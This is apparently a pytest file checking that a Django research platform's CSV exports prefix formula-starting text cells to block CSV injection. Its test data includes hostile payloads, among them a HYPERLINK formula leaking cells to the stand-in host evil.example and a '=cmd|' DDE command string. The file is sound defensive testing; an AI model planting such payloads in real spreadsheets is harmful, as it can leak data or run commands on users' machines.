"""CSV injection: no text cell of any CSV the platform writes starts a spreadsheet formula.

OWASP's rule (``turingtest.csvsafe``): a text cell starting with ``=``, ``+``, ``-``, ``@``,
tab or carriage return (or a quote, to keep the rule reversible) gets a ``'`` prefix. Numeric
columns stay numeric, negative numbers included; JSON and JSON Lines stay verbatim.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.test import Client

from tests.research_study import build_small_study
from turingtest import exports, reports
from turingtest.csvsafe import csv_text
from turingtest.library.models import Condition, Image
from turingtest.reports.render import render_csv
from turingtest.studies.models import Judgment, RaterProfile

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)": "'+SUM(1+1)",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "'already quoted": "''already quoted",
    "fine = not a formula": "fine = not a formula",
}


@pytest.fixture
def hostile():
    """A small study whose comments are formulas, with a negative number in a numeric column."""
    small = build_small_study(n_raters=2, n_real=4, n_synthetic=4)
    judgments = list(Judgment.objects.order_by("pk"))
    for j, comment in zip(judgments, HOSTILE):
        Judgment.objects.filter(pk=j.pk).update(comment=comment)
    synthetic = Image.objects.filter(kind="synthetic").order_by("pk").first()
    synthetic.provenance = {**synthetic.provenance, "seed": -5}
    synthetic.save(update_fields=["provenance"])
    return small


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def _check_judgments_csv(data: bytes) -> None:
    rows = _rows(data)
    comments = {r["comment"] for r in rows if r["comment"]}
    assert comments == set(HOSTILE.values())
    text = {c.name for c in exports.COLUMNS if c.kind == "text"}
    for row in rows:
        for name, value in row.items():
            if name in text and value:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    assert "-5" in {r["synthetic_seed"] for r in rows}  # a negative number stays a number


def test_the_rule_prefixes_formula_starts_only():
    for raw, safe in HOSTILE.items():
        assert csv_text(raw) == safe
    assert csv_text("") == "" and csv_text("MEL") == "MEL"


def test_the_python_writer_neutralises_text_cells_and_jsonl_stays_verbatim(hostile):
    _check_judgments_csv(b"".join(exports.iter_csv_python(hostile.study)))
    lines = b"".join(exports.iter_export(hostile.study, fmt="jsonl")).decode().splitlines()
    assert {json.loads(line)["comment"] for line in lines} - {None} == set(HOSTILE)


def test_the_api_download_and_the_study_package_are_neutralised(hostile):
    client = Client()
    client.force_login(hostile.study.owner)
    response = client.get(f"/api/studies/{hostile.study.pk}/judgments.csv")
    assert response.status_code == 200
    _check_judgments_csv(b"".join(response.streaming_content))
    buf = io.BytesIO()
    exports.write_package(hostile.study, buf, report_builder=lambda s: {"ok": True})
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        _check_judgments_csv(zf.read("judgments.csv"))
        assert "formulas" in zf.read("README.txt").decode()


@pytest.mark.postgres
def test_on_postgresql_the_copy_path_neutralises_the_same_bytes(hostile):
    assert exports.uses_copy()
    via_copy = b"".join(exports.iter_copy(exports.copy_sql(hostile.study), chunk_bytes=512))
    assert via_copy == b"".join(exports.iter_csv_python(hostile.study))
    _check_judgments_csv(via_copy)
    named = b"".join(exports.iter_copy(exports.copy_sql(hostile.study, identities=True)))
    assert named == b"".join(exports.iter_csv_python(hostile.study, identities=True))


def test_the_data_dictionary_documents_the_rule():
    assert "formulas" in exports.data_dictionary_markdown()
    rows = list(csv.DictReader(io.StringIO(exports.data_dictionary_csv())))
    comment = next(r for r in rows if r["column"] == "comment")
    assert "formula-safe" in comment["type"]
    assert next(r for r in rows if r["column"] == "response_ms")["type"] == "integer"


def test_the_reports_tidy_csv_neutralises_text_and_keeps_negative_numbers(hostile):
    Condition.objects.filter(code="MEL").update(code="=cmd|'/C'!A0")
    RaterProfile.objects.filter(user=hostile.raters[0]).update(pseudonym="@evil")
    rows = _rows(render_csv(reports.build(hostile.study, n_boot=50)).encode())
    subjects = {r["subject"] for r in rows}
    assert "'=cmd|'/C'!A0" in subjects and "'@evil" in subjects
    assert not any(r[k].startswith(("=", "+", "@")) for r in rows for k in r)
    negative = [r for r in rows if r["value"].startswith("-")]
    assert negative, "some statistic of this study is negative"
    for r in negative:
        float(r["value"])  # still a number


def test_the_generator_per_condition_csv_neutralises_condition_names(tmp_path):
    from generator.metrics.results import FidelityResult, SetMetrics, write_per_condition_csv

    metrics = SetMetrics(n_real=10, n_fake=10, fid=-0.5)
    result = FidelityResult("x", "1" * 64, 8, metrics, per_condition={"=1+1": metrics})
    write_per_condition_csv(result, tmp_path / "per.csv")
    rows = list(csv.DictReader((tmp_path / "per.csv").open()))
    assert [r["condition"] for r in rows] == ["overall", "'=1+1"]
    assert rows[1]["fid"] == "-0.5"
